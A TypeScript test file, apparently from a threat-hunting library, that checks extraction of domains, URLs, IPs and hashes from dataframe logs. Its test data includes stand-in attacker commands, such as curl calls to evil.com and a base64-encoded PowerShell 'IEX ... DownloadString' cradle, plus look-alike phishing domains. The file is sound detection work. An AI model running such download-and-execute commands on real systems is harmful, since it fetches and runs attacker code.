  const empty = iocs.extract(pl.DataFrame({ t: [] as string[] }), { columns: ["t"] });
  assert.deepEqual(empty.columns, ["IoCType", "Observable", "SourceIndex", "Input"]);
  assert.equal(empty.height, 0);
  const nums = iocs.extract(pl.DataFrame({ n: [1, 2] }), { columns: ["n"] });
  assert.equal(nums.height, 0);
  const nulls = iocs.extract(pl.DataFrame({ t: [null, null, "8.8.8.8"] }), { columns: ["t"] });
  assert.deepEqual(rows(nulls).map((r) => [r.SourceIndex, r.Observable]), [[2, "8.8.8.8"]]);
});

test("a list column (ECS process.args read from NDJSON) is read as its elements' text joined by spaces", () => {
  const df = pl.DataFrame({ args: [["curl", "http://evil.com/x"], ["ping", "1.2.3.4"], null, []] });
  const found = iocs.extract(df, { columns: ["args"] });
  assert.deepEqual(
    rows(found).map((r) => [r.SourceIndex, r.IoCType, r.Observable, r.Input]),
    [
      [0, "dns", "evil.com", "curl http://evil.com/x"],
      [0, "url", "http://evil.com/x", "curl http://evil.com/x"],
      [1, "ipv4", "1.2.3.4", "ping 1.2.3.4"],
    ],
  );
});

test("extract reads a frame whose other columns are named columns, getColumn or height", () => {
  for (const hostile of ["columns", "getColumn", "height", "filter"]) {
    const df = pl.DataFrame([pl.Series(hostile, ["evil.com"]), pl.Series("other", ["mail x@example.com from 10.20.30.40"])]);
    const found = new IoCExtract().extract(df, { columns: ["other"] });
    assert.deepEqual(found.getColumn("Observable").toArray().sort(), ["10.20.30.40", "example.com", "x@example.com"].sort(), hostile);
    // The hostile column itself can be scanned too.
    assert.deepEqual(new IoCExtract().extract(df, { columns: [hostile] }).getColumn("Observable").toArray(), ["evil.com"], hostile);
  }
});

test("a domain glued to a letter of another script or to _ is no mention of the ASCII part: look-alikes do not become real domains", () => {
  const x = new IoCExtract();
  const dns = (text: string) => x.extractText(text).dns ?? [];
  // Cyrillic о and а inside: read by their ASCII parts these were soft.com, l.com, cher.de — innocent domains sent to TI.
  // They are internationalised names, reported whole as written (the look-alike is what a hunter needs to see).
  const whole: [string, string[]][] = [
    ["login.micr\u043esoft.com", ["login.micr\u043esoft.com"]],
    ["payp\u0430l.com/login", ["payp\u0430l.com"]],
    ["b\u00fccher.de", ["b\u00fccher.de"]],
    ["evil.com\u044f", []], // `comя` is no TLD
    ["user@ex\u0430mple.com", ["ex\u0430mple.com"]],
  ];
  for (const [text, expected] of whole) assert.deepEqual(dns(text), expected, text);
  // A label glued to _ (DNS service names) is left out; the rest of the name stays.
  assert.deepEqual(dns("_dmarc.example.com"), ["example.com"]);
  assert.deepEqual(dns("_ldap._tcp.dc._msdcs.contoso.com"), ["contoso.com"]);
  assert.deepEqual(dns("m\u00fcnchen.example.com"), ["m\u00fcnchen.example.com"]);
  // A label glued to a letter IDNA refuses (a leading combining mark) is still left out, never cut.
  assert.deepEqual(dns("\u0301abc.example.com"), ["example.com"]);
  // ASCII neighbours, punctuation and symbols still separate.
  assert.deepEqual(dns("visit evil.com. or (www.contoso.com), \u00abtest.example.org\u00bb x\u{1F600}bad.example.net\u{1F600}"), ["evil.com", "www.contoso.com", "test.example.org", "bad.example.net"]);
  // Text written without spaces between words (Chinese, Japanese, Thai) and Korean particles: the domain is a mention.
  const spaceless: [string, string][] = [["\u8bbf\u95eeevil.com\u7f51\u7ad9", "evil.com"], ["\u30b5\u30a4\u30c8evil.com\u306b\u30a2\u30af\u30bb\u30b9", "evil.com"], ["\u0e44\u0e1b\u0e17\u0e35\u0e48evil.com", "evil.com"], ["evil.com\uc5d0\uc11c", "evil.com"]];
  for (const [text, domain] of spaceless) assert.deepEqual(dns(text), [domain], text);
});

test("a dotted name reaches into a struct column (nested ECS JSON: process.command_line), for extract and unpackDf; a missing field still names the columns", () => {
  // PowerShell's -EncodedCommand: UTF-16LE base64 of a download cradle.
  const encoded = Buffer.from("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')", "utf16le").toString("base64");
  const df = pl.DataFrame([
    pl.Series("host", [{ name: "ws-7" }, { name: "ws-8" }]),
    pl.Series("process", [
      { pid: 4100, command_line: `powershell.exe -enc ${encoded}`, parent: { command_line: "explorer.exe" } },
      { pid: 4120, command_line: "curl http://evil.example.net/x", parent: { command_line: "cmd.exe /c fetch https://203.0.113.9/" } },
    ]),
  ]);
  assert.equal(df.getColumn("process").dtype.variant, "Struct");
  const iocs = new IoCExtract().extract(df, { columns: ["process.command_line", "process.parent.command_line"], iocTypes: ["url"], urlHostAsDns: false });
  assert.deepEqual(iocs.getColumn("Observable").toArray().sort(), ["http://evil.example.net/x", "https://203.0.113.9/"]);
  const decoded = base64.unpackDf(df, { column: "process.command_line" });
  assert.equal(decoded.height, 1);
  assert.match(String(decoded.getColumn("decoded_string").toArray()[0]), /DownloadString\('http:\/\/198\.51\.100\.7\/a\.ps1'\)/);
  assert.throws(() => new IoCExtract().extract(df, { columns: ["process.cmdline"] }), (e: Error) => e instanceof IocExtractError && /"process\.cmdline" is not in the data/.test(e.message));
  assert.throws(() => base64.unpackDf(df, { column: "host.ip" }), (e: Error & { code?: string }) => e.code === "transform/base64-column-missing");
});

// A certificate's serial number as `openssl x509 -text` prints it (16 bytes, colon-grouped), or a thumbprint so
// written: not an MD5 (MSTICPy's md5 pattern wants 32 hex digits in a row, and so does huntlab's), nor IPv6 (16 groups).
test("a colon-grouped certificate serial or thumbprint is no md5_hash, ipv6 or sha1 observable in free text; the same digits in a row are", () => {
  const serial = "3a:7f:12:9c:4d:5e:6f:70:81:92:a3:b4:c5:d6:e7:f8";
  const sha1Print = "D4:1D:8C:D9:8F:00:B2:04:E9:80:09:98:EC:F8:42:7E:12:34:56:78";
  const found = iocs.extractText(`Serial Number: ${serial} SHA1 Fingerprint=${sha1Print} issued`, { iocTypes: BUILTIN_IOC_TYPES });
  assert.deepEqual([found.md5_hash, found.sha1_hash, found.ipv6], [undefined, undefined, undefined], JSON.stringify(found));
  assert.deepEqual(iocs.extractText(`serial=${serial.replaceAll(":", "").toUpperCase()}`).md5_hash, ["3A7F129C4D5E6F708192A3B4C5D6E7F8"]);
});
